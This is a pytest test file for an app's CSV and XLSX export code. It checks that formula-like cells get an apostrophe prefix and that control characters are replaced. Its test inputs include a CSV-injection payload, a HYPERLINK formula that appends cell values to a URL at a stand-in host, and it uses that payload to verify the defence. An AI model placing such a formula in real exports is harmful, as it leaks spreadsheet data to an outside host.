"""Every export goes through table_response: no formulas, no characters that break XLSX."""

import csv
import io

import pytest
from openpyxl import load_workbook

from matchplats.core.exports import neutralise, table_response, unneutralise

FORMULA = '=HYPERLINK("http://example.com/?d="&A2&B2,"Klicka")'
DANGEROUS = [FORMULA, "+46 54 10 00 00", "-2+3", "@SUM(A1)", "\tindented", "\rreturn", "'=already quoted"]


def _csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def _xlsx_rows(response) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return list(sheet.values)


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_text_cell_that_starts_like_a_formula_is_exported_with_an_apostrophe(value):
    assert neutralise(value) == "'" + value
    assert unneutralise(neutralise(value)) == value


def test_ordinary_text_is_exported_as_it_is():
    for value in ["Undersköterskor", "Svets 2026", "e-post", "It's fine"]:
        assert neutralise(value) == value == unneutralise(value)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_no_exported_cell_is_a_formula_and_numbers_stay_numbers(file_format):
    response = table_response(header=["title", "headcount"], rows=[[FORMULA, 12], ["Svetsare", -3]],
                              file_stem="test", file_format=file_format)
    rows = _csv_rows(response) if file_format == "csv" else _xlsx_rows(response)
    assert rows[1][0] == "'" + FORMULA
    if file_format == "xlsx":
        assert rows[1][1] == 12 and rows[2][1] == -3
        workbook = load_workbook(io.BytesIO(response.content))
        assert all(cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row)
    else:
        assert rows[1][1] == "12" and rows[2][1] == "-3"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_stored_control_characters_never_break_an_export(file_format):
    response = table_response(header=["title"], rows=[["Svets\x01are\x1b"], ["rad ett\nrad två"]],
                              file_stem="test", file_format=file_format)
    assert response.status_code == 200
    rows = _csv_rows(response) if file_format == "csv" else _xlsx_rows(response)
    assert rows[1][0] == "Svets\ufffdare\ufffd"
    assert rows[2][0] == "rad ett\nrad två"


def test_the_csv_export_is_semicolon_separated_with_a_byte_order_mark():
    response = table_response(header=["a", "b"], rows=[["x;y", "z"]], file_stem="test", file_format="csv")
    assert response.content.startswith("\ufeffa;b\r\n".encode())
    assert _csv_rows(response)[1] == ["x;y", "z"]
